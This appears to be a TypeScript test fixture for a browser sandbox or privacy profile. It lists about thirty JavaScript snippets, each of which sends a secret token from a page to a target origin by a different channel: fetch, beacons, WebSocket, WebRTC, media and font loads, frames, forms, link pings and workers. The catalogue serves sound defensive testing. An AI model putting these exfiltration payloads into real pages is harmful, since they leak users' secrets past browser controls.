/**
 * Ways for hostile code in a page to tell somebody something. `code` runs in the page, `target` (an origin) and `token` (the
 * secret) are in scope. `only` names the ones that mean something against another host or our own (`home`) alone.
 *
 * Not here, because this profile leaves them open towards our own host alone: a download link with a query, Background Fetch,
 * and a cookie on the daily check of the service worker.
 */
export interface Escape {
  readonly name: string
  readonly code: string
  readonly only?: 'elsewhere' | 'home'
}

const element = (tag: string, attributes: string) =>
  `Object.assign(document.body.appendChild(document.createElement('${tag}')), ${attributes})`
const address = 'target + "/x?" + token'
const socket = 'target.replace("http", "ws") + "/x?" + token'
const stun = (server: string) => `
  const peer = new RTCPeerConnection({ iceServers: [${server}] })
  peer.createDataChannel('a')
  await peer.setLocalDescription(await peer.createOffer())`

export const escapes: readonly Escape[] = [
  { name: 'fetch with a query', code: `await fetch(${address}, { mode: 'no-cors' })` },
  { name: 'fetch with a body', code: `await fetch(target + '/x', { method: 'POST', mode: 'no-cors', body: token })` },
  {
    name: 'fetch of a known file with a header',
    code: `await fetch(target + '/', { headers: { 'accept-language': token }, cache: 'reload' })`,
  },
  { name: 'keepalive fetch', code: `await fetch(target + '/x', { method: 'POST', mode: 'no-cors', keepalive: true, body: token })` },
  { name: 'XMLHttpRequest', code: `const x = new XMLHttpRequest(); x.open('GET', ${address}); x.send()` },
  { name: 'sendBeacon', code: `navigator.sendBeacon(target + '/x', token)` },
  { name: 'EventSource', code: `new EventSource(${address})` },
  { name: 'Cache.add', code: `await (await caches.open('z')).add(${address})` },
  { name: 'WebSocket', code: `new WebSocket(${socket})` },
  { name: 'WebRTC by STUN', code: stun(`{ urls: 'stun:127.0.0.1:' + new URL(target).port }`), only: 'elsewhere' },
  {
    name: 'WebRTC by TURN over TCP',
    code: stun(`{ urls: 'turn:127.0.0.1:' + new URL(target).port + '?transport=tcp', username: token, credential: 'a' }`),
    only: 'elsewhere',
  },
  { name: 'image', code: `new Image().src = ${address}` },
  { name: 'style', code: `document.body.style.backgroundImage = 'url("' + ${address} + '")'` },
  { name: 'font', code: `await new FontFace('zz', 'url("' + ${address} + '")').load()` },
  { name: 'video', code: element('video', `{ preload: 'auto', src: ${address} }`) },
  {
    name: 'playlist in a blob',
    code: `const list = '#EXTM3U\\n#EXT-X-VERSION:3\\n#EXT-X-TARGETDURATION:2\\n#EXTINF:2,\\n' + ${address} + '\\n#EXT-X-ENDLIST\\n'
      const src = URL.createObjectURL(new Blob([list], { type: 'application/vnd.apple.mpegurl' }))
      ${element('video', `{ muted: true, autoplay: true, src }`)}.play().catch(() => {})`,
  },
  { name: 'frame', code: element('iframe', `{ src: ${address} }`) },
  { name: 'fetch inside an empty frame', code: `await ${element('iframe', '{}')}.contentWindow.fetch(${address}, { mode: 'no-cors' })` },
  { name: 'import()', code: `await import(${address})` },
  { name: 'prefetch', code: `document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: ${address} }))` },
  {
    name: 'preconnect',
    code: `document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: target }))`,
    only: 'elsewhere',
  },
  { name: 'location', code: `location.href = ${address}` },
  { name: 'link', code: `${element('a', `{ href: ${address} }`)}.click()` },
  { name: 'link in a new tab', code: `${element('a', `{ href: ${address}, target: '_blank' }`)}.click()` },
  { name: 'link with ping', code: `${element('a', `{ href: '#z', ping: ${address} }`)}.click()` },
  { name: 'download link', code: `${element('a', `{ href: ${address}, download: 'f' }`)}.click()`, only: 'elsewhere' },
  { name: 'window.open', code: `window.open(${address})` },
  {
    name: 'fetch inside an empty tab',
    code: `const tab = window.open('about:blank'); await new Promise((r) => setTimeout(r, 300)); await tab.fetch(${address}, { mode: 'no-cors' })`,
  },
  {
    name: 'form',
    code: `const form = ${element('form', `{ action: target + '/x', method: 'post' }`)}
      form.append(Object.assign(document.createElement('input'), { name: 'q', value: token })); form.submit()`,
  },
  {
    name: 'meta refresh',
    code: `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + ${address} }))`,
  },
  {
    name: 'fetch inside a blob worker',
    code: `new Worker(URL.createObjectURL(new Blob(['fetch("' + ${address} + '", { mode: "no-cors" })'], { type: 'text/javascript' })))`,
  },
  { name: 'address after reload', code: `history.pushState(0, '', '/?' + token); location.reload()`, only: 'home' },
]
